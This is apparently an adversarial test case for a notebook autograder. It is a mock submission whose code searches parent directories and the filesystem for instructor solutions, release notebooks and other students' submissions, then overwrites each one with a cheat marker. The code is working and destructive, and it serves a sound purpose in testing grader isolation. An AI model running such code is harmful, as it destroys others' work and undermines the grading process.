# about: overwrites every notebook it finds in solutions/, notebooks/ and submitted/ (the instructor's sources, the release, other students); no code
# expected: 0
# %% [batch_mean]
import os, glob
_victims = set()
_here = os.path.abspath(os.getcwd())
for _ in range(8):
    for _sub in ("solutions", "notebooks", ".grading/submitted", "submitted", "source", "release"):
        _victims.update(glob.glob(os.path.join(_here, _sub, "**", "*.ipynb"), recursive=True))
    _here = os.path.dirname(_here)
_victims.update(glob.glob("/**/solutions/**/*.ipynb", recursive=True)[:100])
for _nb in sorted(_victims):
    try:
        with open(_nb, "w") as _f:
            _f.write('{"CHEAT-MARKER": true}')
        print("overwrote", _nb)
    except OSError as _e:
        print("could not overwrite", _nb, _e)
def batch_mean(x):
    raise NotImplementedError()
